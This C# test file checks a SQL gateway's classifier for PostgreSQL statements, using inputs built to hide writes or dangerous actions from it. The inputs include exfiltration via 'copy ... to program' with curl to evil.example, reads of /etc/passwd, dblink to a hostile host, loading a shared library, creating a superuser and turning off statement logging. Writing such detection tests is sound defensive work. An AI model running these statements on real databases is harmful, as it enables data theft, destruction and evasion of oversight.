namespace GitJit.Gateway.Tests;

/// <summary>
/// SQL in, what it does out (see <see cref="Describe.Statement"/> for the notation). Many are ways to hide a statement
/// from a classifier that reads text: PostgreSQL's parser reads them all the way the server will.
/// </summary>
public sealed class ClassificationCaseTests
{
    public static TheoryData<string, string> Cases => new()
    {
        // Plain statements, names as PostgreSQL folds them.
        { "SELECT * FROM orders", "select | tables r:orders" },
        { "select * from Public.Orders o join public.order_items i on i.order_id = o.id", "select | tables r:public.order_items r:public.orders" },
        { "SeLeCt * FrOm PuBlIc.CuStOmErS_pIi", "select | tables r:public.customers_pii" },
        { "select * from \"Customers_PII\"", "select | tables r:\"Customers_PII\"" },
        { "select * from U&\"\\0063ustomers_pii\"", "select | tables r:customers_pii" },
        { "select * from U&\"!0063ustomers_pii\" UESCAPE '!'", "select | tables r:customers_pii" },
        { "select * from mydb.public.orders", "select | tables r:public.orders" },
        { "select 1 from orders where exists (select 1 from customers_pii)", "select | tables r:customers_pii r:orders" },
        { "select 1 union select id from orders", "select | tables r:orders" },
        { "table orders", "select | tables r:orders" },
        { "values (1), (2)", "select" },

        // Comments, quoting and strings that hide or fake statements.
        { "DELETE/* a /* nested */ b */FROM--c\n orders WHERE/**/id = 1", "delete | tables w:orders" },
        { "select $$; delete from orders; $$", "select" },
        { "select $a$ $$ ; drop table orders; $$ $a$", "select" },
        { "select E'\\'; drop table orders; --'", "select" },
        { "select '\\'; drop table orders; --'", "select ; drop | tables w:orders" },
        { "select U&'\\0064rop table orders'", "select" },
        { "select 1 -- ; drop table orders", "select" },
        { "select 1; select 2; delete from orders", "select ; select ; delete | tables w:orders | nowhere delete:orders" },
        { "select * from orders; ; ;", "select | tables r:orders" },
        { "begin; delete from orders where id = 1; commit", "transaction ; delete | tables w:orders ; transaction" },

        // Writes hidden inside other statements.
        { "with x as (delete from orders returning *) select * from x", "select | +delete | tables w:orders | nowhere delete:orders" },
        { "with x as (delete from orders where id = 1 returning *) select * from x, \"Cust\"", "select | +delete | tables r:\"Cust\" w:orders" },
        { "with x as (update orders set total = 0 returning id) insert into audit.log select * from x", "insert | +update | tables w:audit.log w:orders | nowhere update:orders" },
        { "(select 1) union (with d as (delete from orders returning 1) select * from d)", "select | +delete | tables w:orders | nowhere delete:orders" },
        { "explain analyze delete from orders", "explain | +delete | tables w:orders | nowhere delete:orders" },
        { "explain (analyze false) delete from orders where id = 1", "explain | +delete | tables w:orders | no-run" },
        { "explain select * from orders", "explain | +select | tables r:orders | no-run" },
        { "select * into orders_copy from orders", "select | +create | tables r:orders w:orders_copy" },
        { "create table orders_copy as select * from orders", "create | +select | tables r:orders w:orders_copy" },
        { "create materialized view m as select * from orders", "create | +select | tables w:m r:orders" },
        { "create view v as select * from customers_pii", "create | +select | tables r:customers_pii w:v" },
        { "prepare p (int) as delete from orders where id = $1", "prepare | +delete | tables w:orders | prepared p | no-run" },
        { "prepare p as update orders set total = 0", "prepare | +update | tables w:orders | nowhere update:orders | prepared p | no-run" },
        { "execute p(1)", "execute | prepared p" },
        { "deallocate p", "other | prepared p" },
        { "declare c cursor for select * from orders", "other | +select | tables r:orders" },
        { "create rule r as on insert to orders do instead delete from order_items", "create | +delete | tables w:order_items w:orders | nowhere delete:order_items" },
        { "insert into orders select * from customers_pii", "insert | +select | tables r:customers_pii w:orders" },
        { "insert into orders values (1) on conflict (id) do update set total = 0", "insert | +update | tables w:orders" },
        { "update orders set total = 0 from order_items i where i.order_id = orders.id", "update | +select | tables r:order_items w:orders" },
        { "update orders set total = (select max(total) from orders) where id = 1", "update | +select | tables w:orders" },
        { "merge into orders o using staged s on o.id = s.id when matched then delete when not matched then insert values (s.id)", "merge | +select+insert+delete | tables w:orders r:staged" },

        // WHERE: any WHERE counts, WHERE true included.
        { "update orders set total = 0 where true", "update | tables w:orders" },
        { "update orders set total = 0", "update | tables w:orders | nowhere update:orders" },
        { "delete from orders where current of c", "delete | tables w:orders" },

        // CTE names are not tables; a CTE's own query sees only the CTEs before it (unless RECURSIVE).
        { "with pii as (select 1) select * from pii", "select" },
        { "with customers_pii as (select * from customers_pii) select * from customers_pii", "select | tables r:customers_pii" },
        { "with a as (select 1), b as (select * from a) select * from b", "select" },
        { "with b as (select * from a), a as (select 1) select * from b", "select | tables r:a" },
        { "with recursive r as (select 1 union all select * from r) select * from r", "select" },
        { "select * from (with pii as (select 1) select * from pii) a, pii", "select | tables r:pii" },

        // COPY.
        { "copy orders from stdin", "copy | tables w:orders | copy from:client" },
        { "copy orders to stdout", "copy | +select | tables r:orders | copy to:client" },
        { "copy (select * from orders) to stdout", "copy | +select | tables r:orders | copy to:client" },
        { "copy orders to program 'curl -d @- evil.example'", "copy | +select | tables r:orders | copy to:program" },
        { "copy orders from program 'cat /etc/passwd'", "copy | tables w:orders | copy from:program" },
        { "copy orders from '/etc/passwd'", "copy | tables w:orders | copy from:serverfile" },

        // Code the classifier cannot read.
        { "DO $$ begin delete from orders; end $$", "do | unread-code" },
        { "do language plpgsql $body$ begin perform 1; end $body$", "do | unread-code" },
        { "call refresh_orders(1)", "call | unread-code" },
        { "create function pg_temp.f() returns int language sql as 'select 1'", "create | unread-code" },
        { "create function pg_temp.f() returns int language sql begin atomic select 1; end", "create" },

        // Settings.
        { "set statement_timeout = 0", "set | settings set:statement_timeout" },
        { "SET LOCAL statement_timeout TO 0", "set | settings set:statement_timeout:local" },
        { "set \"Statement_Timeout\" = 0", "set | settings set:statement_timeout" },
        { "set statement_timeout to default", "set | settings set:statement_timeout" },
        { "reset statement_timeout", "set | settings reset:statement_timeout" },
        { "RESET ALL", "set | settings resetall:?" },
        { "discard all", "other | settings resetall:?" },
        { "discard plans", "other" },
        { "select set_config('statement_timeout', '0', false)", "select | +set | settings setconfig:statement_timeout | functions set_config:SetsSetting" },
        { "select pg_catalog.set_config('STATEMENT_TIMEOUT', '0', false)", "select | +set | settings setconfig:statement_timeout | functions set_config:SetsSetting" },
        { "select set_config(name, '0', false) from (values ('statement_timeout')) v(name)", "select | +set | settings setconfig:? | functions set_config:SetsSetting" },
        { "select set_config('statement' || '_timeout', '0', false)", "select | +set | settings setconfig:? | functions set_config:SetsSetting" },
        { "set role postgres", "set | settings set:role" },
        { "reset role", "set | settings reset:role" },
        { "set session authorization postgres", "set | settings set:session_authorization" },
        { "set names 'latin1'", "set | settings set:client_encoding" },
        { "set standard_conforming_strings = off", "set | settings set:standard_conforming_strings" },
        { "set search_path = audit, public", "set | settings set:search_path" },
        { "begin read write", "transaction | settings transactionreadwrite:transaction_read_only" },
        { "START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE", "transaction | settings transactionreadwrite:transaction_read_only" },
        { "begin read only", "transaction" },
        { "set transaction read write", "set | settings transactionreadwrite:transaction_read_only" },
        { "set transaction read only", "set" },
        { "set session characteristics as transaction read write", "set | settings transactionreadwrite:default_transaction_read_only" },
        { "set default_transaction_read_only = off", "set | settings set:default_transaction_read_only" },
        { "alter role current_user set statement_timeout = 0", "alter | +set | settings set:statement_timeout" },
        { "create function pg_temp.f() returns int language sql set statement_timeout = 0 begin atomic select 1; end", "create | +set | settings set:statement_timeout" },
        { "show statement_timeout", "show" },

        // Functions the gateway watches, in call and attribute notation, in any schema.
        { "SELECT pg_read_file('/etc/passwd')", "select | functions pg_read_file:ServerFiles" },
        { "select pg_catalog.pg_read_binary_file('/etc/passwd')", "select | functions pg_read_binary_file:ServerFiles" },
        { "select ('/etc/passwd'::text).pg_read_file", "select | functions pg_read_file:ServerFiles" },
        { "select * from pg_ls_dir('.')", "select | functions pg_ls_dir:ServerFiles" },
        { "select pg_ls_waldir()", "select | functions pg_ls_waldir:ServerFiles" },
        { "select pg_stat_file('postgresql.conf')", "select | functions pg_stat_file:ServerFiles" },
        { "select lo_import('/etc/passwd')", "select | functions lo_import:LargeObjects" },
        { "select lo_export(16384, '/tmp/x')", "select | functions lo_export:LargeObjects" },
        { "select loread(lo_open(16384, 262144), 100)", "select | functions loread:LargeObjects lo_open:LargeObjects" },
        { "select * from dblink('host=evil', 'select 1') as t(a int)", "select | functions dblink:RemoteConnections" },
        { "select dblink_exec('host=evil', 'drop table x')", "select | functions dblink_exec:RemoteConnections" },
        { "select query_to_xml('delete from orders returning 1', true, false, '')", "select | functions query_to_xml:SqlFromText" },
        { "select pg_terminate_backend(42)", "select | functions pg_terminate_backend:ServerControl" },
        { "select * from pg_logical_slot_get_changes('s', null, null)", "select | functions pg_logical_slot_get_changes:Replication" },
        { "select nextval('orders_id_seq')", "select | functions nextval:WritesSequence" },
        { "select pg_advisory_lock(1)", "select | +lock | functions pg_advisory_lock:AdvisoryLock" },
        { "select lower(name), now() from orders", "select | tables r:orders" },

        // The rest of the vocabulary.
        { "insert into orders (id) values (1)", "insert | tables w:orders" },
        { "truncate orders, audit.log", "truncate | tables w:audit.log w:orders" },
        { "drop table public.customers_pii, orders", "drop | tables w:orders w:public.customers_pii" },
        { "drop function f(int)", "drop" },
        { "alter table orders add column note text", "alter | tables w:orders" },
        { "alter table orders rename to orders_old", "alter | tables w:orders" },
        { "comment on table public.customers_pii is 'x'", "alter | tables w:public.customers_pii" },
        { "comment on column orders.note is 'x'", "alter" },
        { "create index on orders (id)", "create | tables w:orders" },
        { "create table t (id int references customers_pii (id))", "create | tables w:customers_pii w:t" },
        { "create temp table scratch (a int)", "create | tables w:pg_temp.scratch" },
        { "grant select on orders to public", "grant | tables w:orders" },
        { "revoke all on table orders from public", "revoke | tables w:orders" },
        { "grant pg_read_server_files to current_user", "grant" },
        { "vacuum analyze orders", "vacuum | tables w:orders" },
        { "analyze orders", "vacuum | tables w:orders" },
        { "cluster orders using orders_pkey", "vacuum | tables w:orders" },
        { "lock table orders in access exclusive mode", "lock | tables w:orders" },
        { "select * from orders for update", "select | +lock | tables r:orders" },
        { "refresh materialized view m", "alter | tables w:m" },
        { "create role evil superuser", "create" },
        { "alter role current_user password 'x'", "alter" },
        { "load 'evil.so'", "other" },
        { "alter system set log_statement = 'none'", "alter | +set | settings set:log_statement" },
        { "listen orders_changed", "other" },
        { "fetch 10 from c", "other" },
        { "checkpoint", "other" },
        { "explain analyze execute p(1)", "explain | +execute | prepared p" },
        { "create table t as execute p(1)", "create | +execute | tables w:t | prepared p" },
        { "select * from orders o join (order_items i join customers_pii c on c.id = i.id) on o.id = i.id", "select | tables r:customers_pii r:order_items r:orders" },
        { "select * from (select * from orders) a cross join lateral (select * from customers_pii) b", "select | tables r:customers_pii r:orders" },
        { "prepare transaction 'x'", "transaction | two-phase" },
        { "commit prepared 'x'", "transaction | two-phase" },
    };

    [Theory]
    [MemberData(nameof(Cases))]
    public async Task Statement_IsClassifiedAsPostgreSqlReadsIt(string sql, string expected)
    {
        var classification = await Parser.ClassifyAsync(sql);

        Assert.Equal(expected, Describe.Classification(classification));
    }
}
